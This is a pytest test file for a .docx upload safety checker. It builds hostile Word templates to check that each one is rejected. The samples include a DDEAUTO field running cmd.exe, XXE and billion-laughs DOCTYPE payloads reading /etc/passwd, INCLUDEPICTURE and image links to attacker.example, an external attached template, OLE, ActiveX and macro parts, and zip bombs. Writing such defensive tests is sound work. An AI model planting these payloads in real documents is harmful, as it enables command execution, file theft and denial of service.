"""Uploaded .docx templates are refused when they could attack the renderer.

Each hostile file is built here from a clean python-docx document, then edited the way an
attacker would: extra relationships, injected XML, rewritten zip members.
"""

from __future__ import annotations

import io
import random
import struct
import tracemalloc
import zipfile
from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from core.docx_safety import DocxLimits, check_docx
from core.errors import TemplateRejected

PEER_CORPUS = sorted((Path(__file__).parent / "fixtures" / "peer-corpus" / "templates").glob("*.docx"))
MB = 1024 * 1024


def save(doc) -> bytes:
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def clean_document(*texts: str):
    doc = Document()
    for text in texts or ("Hello",):
        doc.add_paragraph(text)
    return doc


def rewrite(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
            drop: tuple[str, ...] = ()) -> bytes:
    """Copy a zip, replacing, adding or dropping members."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in drop:
                dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, content in add.items():
            dst.writestr(name, content)
    return out.getvalue()


def findings(data: bytes, limits: DocxLimits | None = None) -> list[dict]:
    with pytest.raises(TemplateRejected) as caught:
        check_docx(data, limits)
    assert caught.value.status == 422
    return caught.value.errors


def add_relationship(data: bytes, rels: str, rel_type: str, target: str, external: bool = False) -> bytes:
    """Add one relationship (Id ``rIdEvil``) to a .rels part, creating the part if needed."""
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        xml = src.read(rels).decode() if rels in src.namelist() else (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            "</Relationships>")
    mode = ' TargetMode="External"' if external else ""
    xml = xml.replace("</Relationships>", f'<Relationship Id="rIdEvil" Type="{rel_type}" '
                                          f'Target="{target}"{mode}/></Relationships>')
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        exists = rels in src.namelist()
    return rewrite(data, replace={rels: xml.encode()}) if exists else rewrite(data, add={rels: xml.encode()})


def append_xml(paragraph, xml: str) -> None:
    paragraph._p.append(parse_xml(xml))


W_RUN = f"<w:r {nsdecls('w')}>{{}}</w:r>"


def test_clean_document_passes():
    check_docx(save(clean_document("One", "Two")))


@pytest.mark.parametrize("path", PEER_CORPUS, ids=lambda p: p.name)
def test_peer_corpus_templates_pass(path):
    check_docx(path.read_bytes())


def test_peer_corpus_is_present():
    assert len(PEER_CORPUS) >= 19


def test_rejects_file_that_is_not_a_zip():
    (found,) = findings(b"%PDF-1.7 definitely not a docx")
    assert found["found"] == "not-docx"
    assert "not a .docx" in found["message"]


def test_rejects_zip_without_word_document():
    data = rewrite(save(clean_document()), drop=("word/document.xml",))
    assert [f["found"] for f in findings(data)] == ["not-docx"]


def test_rejects_external_image_relationship():
    doc = clean_document()
    doc.part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
    assert findings(save(doc)) == [{
        "part": "word/_rels/document.xml.rels",
        "message": "external relationship (TargetMode=External) to file:///etc/passwd",
        "found": "external-relationship",
    }]


def test_rejects_external_relationship_in_header_part():
    doc = clean_document()
    header = doc.sections[0].header
    header.add_paragraph("head")
    header.part.relate_to("http://attacker.example/track.png", RT.IMAGE, is_external=True)
    (found,) = findings(save(doc))
    assert found["part"].startswith("word/_rels/header")
    assert "http://attacker.example/track.png" in found["message"]


def test_accepts_external_hyperlink():
    doc = clean_document()
    doc.part.relate_to("https://example.org/report", RT.HYPERLINK, is_external=True)
    check_docx(save(doc))


def test_rejects_attached_template_in_settings_and_rels():
    doc = clean_document()
    doc.settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="rIdEvil"/>'))
    data = add_relationship(save(doc), "word/_rels/settings.xml.rels", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
                            "file://evil/share/t.dotm", external=True)
    found = findings(data)
    assert {(f["part"], f["found"]) for f in found} == {
        ("word/settings.xml", "attached-template"),
        ("word/_rels/settings.xml.rels", "attached-template"),
    }


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>')


def test_rejects_doctype_in_document_xml():
    data = save(clean_document())
    body = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
    hostile = BILLION_LAUGHS + body.split(b"?>", 1)[1]
    (found,) = findings(rewrite(data, replace={"word/document.xml": hostile}))
    assert found == {"part": "word/document.xml", "found": "doctype",
                     "message": "XML part declares a DOCTYPE (XXE / entity expansion)"}


def test_rejects_doctype_hidden_in_utf16_part():
    xxe = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           '<r>&x;</r>').encode("utf-16")
    data = rewrite(save(clean_document()), add={"customXml/item9.xml": xxe})
    (found,) = findings(data)
    assert (found["part"], found["found"]) == ("customXml/item9.xml", "doctype")


def test_rejects_includetext_field_split_across_runs_and_names_paragraph():
    doc = clean_document("First", "Second")
    second = doc.paragraphs[1]
    append_xml(second, W_RUN.format('<w:fldChar w:fldCharType="begin"/>'))
    append_xml(second, W_RUN.format('<w:instrText xml:space="preserve"> INCLUDE</w:instrText>'))
    append_xml(second, W_RUN.format('<w:instrText>TEXT "C:\\\\secrets.txt"</w:instrText>'))
    append_xml(second, W_RUN.format('<w:fldChar w:fldCharType="separate"/>'))
    append_xml(second, W_RUN.format('<w:fldChar w:fldCharType="end"/>'))
    (found,) = findings(save(doc))
    assert found["part"] == "word/document.xml"
    assert found["paragraph"] == 2
    assert found["found"] == "field"
    assert "INCLUDETEXT" in found["message"]


@pytest.mark.parametrize("instr", ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
                                   'INCLUDEPICTURE "http://attacker.example/x.png" \\d',
                                   'LINK Excel.Sheet.8 "c:\\\\book.xls" "Sheet1!R1C1"',
                                   'IMPORT "c:\\\\x.png"'])
def test_rejects_dangerous_simple_fields(instr):
    doc = clean_document("only")
    append_xml(doc.paragraphs[0], f'<w:fldSimple {nsdecls("w")} w:instr={quoteattr(instr)}/>')
    (found,) = findings(save(doc))
    assert (found["found"], found["paragraph"]) == ("field", 1)
    assert instr.split()[0] in found["message"]


def test_accepts_ordinary_fields():
    doc = clean_document("page")
    append_xml(doc.paragraphs[0], f'<w:fldSimple {nsdecls("w")} w:instr=" PAGE "/>')
    append_xml(doc.paragraphs[0], f'<w:fldSimple {nsdecls("w")} w:instr=\'HYPERLINK "https://x.org/link"\'/>')
    check_docx(save(doc))


def test_rejects_alt_chunk_element_and_relationship():
    doc = clean_document()
    doc.element.body.insert(0, parse_xml(f'<w:altChunk {nsdecls("w", "r")} r:id="rIdEvil"/>'))
    data = add_relationship(save(doc), "word/_rels/document.xml.rels", RT.A_F_CHUNK, "chunk.html")
    found = findings(rewrite(data, add={"word/chunk.html": b"<html>hi</html>"}))
    assert {(f["part"], f["found"]) for f in found} == {
        ("word/document.xml", "alt-chunk"), ("word/_rels/document.xml.rels", "alt-chunk")}


def test_rejects_ole_object_and_its_embedding():
    doc = clean_document("before", "object here")
    append_xml(doc.paragraphs[1], W_RUN.format(
        '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'{nsdecls("r")} ProgID="Package" r:id="rIdEvil"/></w:object>'))
    data = add_relationship(save(doc), "word/_rels/document.xml.rels", RT.OLE_OBJECT,
                            "embeddings/oleObject1.bin")
    found = findings(rewrite(data, add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}))
    by_part = {(f["part"], f["found"], f.get("paragraph")) for f in found}
    assert ("word/document.xml", "ole-object", 2) in by_part
    assert ("word/_rels/document.xml.rels", "ole-object", None) in by_part
    assert ("word/embeddings/oleObject1.bin", "ole-object", None) in by_part


def test_rejects_activex_part():
    data = rewrite(save(clean_document()), add={"word/activeX/activeX1.xml": b"<ax/>"})
    assert [(f["part"], f["found"]) for f in findings(data)] == [("word/activeX/activeX1.xml", "activex")]


def test_rejects_macro_enabled_docm():
    data = save(clean_document())
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    found = findings(rewrite(data, replace={"[Content_Types].xml": types},
                             add={"word/vbaProject.bin": b"\x00" * 64}))
    assert {(f["part"], f["found"]) for f in found} == {
        ("[Content_Types].xml", "macro"), ("word/vbaProject.bin", "macro")}


def test_lists_every_finding_in_one_rejection():
    doc = clean_document("a", "b")
    doc.part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
    append_xml(doc.paragraphs[0], f'<w:fldSimple {nsdecls("w")} w:instr="DDE cmd x"/>')
    with pytest.raises(TemplateRejected) as caught:
        check_docx(rewrite(save(doc), add={"word/vbaProject.bin": b"x"}))
    assert {f["found"] for f in caught.value.errors} == {"external-relationship", "field", "macro"}
    assert "3 problems" in caught.value.detail
    assert caught.value.to_problem()["status"] == 422


def test_rejects_too_many_entries():
    extra = {f"word/media/pad{i}.txt": b"x" for i in range(30)}
    data = rewrite(save(clean_document()), add=extra)
    check_docx(data, DocxLimits(max_entries=100))
    assert [f["found"] for f in findings(data, DocxLimits(max_entries=40))] == ["too-many-entries"]


def test_rejects_total_uncompressed_size_over_limit():
    data = rewrite(save(clean_document()), add={"word/media/big.bin": random.Random(0).randbytes(3 * MB)})
    check_docx(data)
    assert [f["found"] for f in findings(data, DocxLimits(max_total_size=2 * MB))] == ["too-large"]


def test_rejects_highly_compressed_entry():
    data = rewrite(save(clean_document()), add={"word/media/zeros.bin": b"\0" * (2 * MB)})
    (found,) = findings(data)
    assert (found["part"], found["found"]) == ("word/media/zeros.bin", "zip-bomb")


def decompressed_bytes(monkeypatch) -> list[int]:
    """Count every byte the checks decompress (a one-element list, updated as they read)."""
    counted = [0]
    original = zipfile.ZipExtFile.read

    def counting_read(self, n=-1):
        data = original(self, n)
        counted[0] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    return counted


def test_zip_bomb_is_refused_before_any_byte_is_decompressed(monkeypatch):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(save(clean_document()))) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        with dst.open("word/media/bomb.bin", "w") as stream:
            for _ in range(200):  # 200 MB of zeros, written without holding them in memory
                stream.write(bytes(MB))
    bomb = out.getvalue()
    assert len(bomb) < 2 * MB
    counted = decompressed_bytes(monkeypatch)
    tracemalloc.start()
    found = findings(bomb)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert {"too-large", "zip-bomb"} <= {f["found"] for f in found}
    assert counted[0] == 0  # refused from the zip directory alone
    assert peak < 10 * MB


def _lie_about_size(data: bytes, name: str, declared: int) -> bytes:
    """Patch the central directory so ``name`` claims ``declared`` uncompressed bytes."""
    buf = bytearray(data)
    header = buf.index(b"PK\x01\x02")
    while True:
        name_len = struct.unpack_from("<H", buf, header + 28)[0]
        if buf[header + 46:header + 46 + name_len].decode() == name:
            struct.pack_into("<I", buf, header + 24, declared)
            return bytes(buf)
        header = buf.index(b"PK\x01\x02", header + 46)


def test_rejects_entry_that_decompresses_past_its_declared_size(monkeypatch):
    honest = rewrite(save(clean_document()), add={"word/media/zeros.bin": b"\0" * (5 * MB)})
    lying = _lie_about_size(honest, "word/media/zeros.bin", 1000)
    counted = decompressed_bytes(monkeypatch)
    tracemalloc.start()
    found = findings(lying)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [(f["part"], f["found"]) for f in found] in (
        [("word/media/zeros.bin", "zip-bomb")], [("word/media/zeros.bin", "corrupt-zip")])
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        other_parts = sum(i.file_size for i in archive.infolist() if i.filename != "word/media/zeros.bin")
    assert counted[0] <= other_parts + 64 * 1024  # at most one chunk past the lie, not its 5 MB
    assert peak < 4 * MB
